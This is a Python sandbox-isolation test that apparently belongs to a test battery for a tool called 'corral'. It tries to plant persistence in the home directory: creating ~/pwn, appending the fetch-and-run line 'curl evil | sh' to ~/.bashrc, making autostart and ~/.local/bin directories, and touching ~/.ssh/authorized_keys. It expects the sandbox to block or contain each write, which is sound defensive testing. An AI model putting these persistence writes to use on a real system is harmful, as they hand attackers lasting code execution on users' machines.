#!/usr/bin/env python3
# id: F01
# tries: write $HOME/pwn, append to ~/.bashrc, create ~/.local/bin and ~/.config/autostart, add ~/.ssh/authorized_keys
# expect: the writes land in the sandbox's home layer (EROFS without one); ~/.ssh stays masked (EACCES or EROFS); the host's home is unchanged (runner checks)
# neighbour: a file in the workspace can be created, written, read and removed; ~/.cache (corral's per-workspace copy) is writable
# needs: -
# sandbox-args: -
#
# Runs inside `corral sandbox` (tests/sandbox/battery.py); by hand:
#   corral sandbox -- /usr/bin/python3 F01_write_home.py [INFO.json]
import errno
import os

from attacklib import attempt, attempt_home_write, main


def attack():
    home = os.environ["HOME"]
    attempt_home_write("create ~/pwn", lambda: open(home + "/pwn", "w").close(), errno.EROFS)
    attempt_home_write("append ~/.bashrc", lambda: open(home + "/.bashrc", "a").write("curl evil | sh\n"),
                       errno.EROFS)
    attempt_home_write("mkdir ~/.local/bin", lambda: os.makedirs(home + "/.local/bin"), errno.EROFS)
    attempt_home_write("mkdir ~/.config/autostart", lambda: os.mkdir(home + "/.config/autostart"), errno.EROFS)
    attempt("create ~/.ssh/authorized_keys", lambda: open(home + "/.ssh/authorized_keys", "a").close(),
            errno.EROFS, errno.EACCES)


def neighbour():
    with open("made-here.txt", "w") as f:
        f.write("hello\n")
    if open("made-here.txt").read() != "hello\n":
        return "workspace file reads back wrong"
    os.unlink("made-here.txt")
    cache = os.environ["HOME"] + "/.cache/battery-probe"
    with open(cache, "w") as f:
        f.write("cache\n")
    os.unlink(cache)
    return None


if __name__ == "__main__":
    main(attack, neighbour)
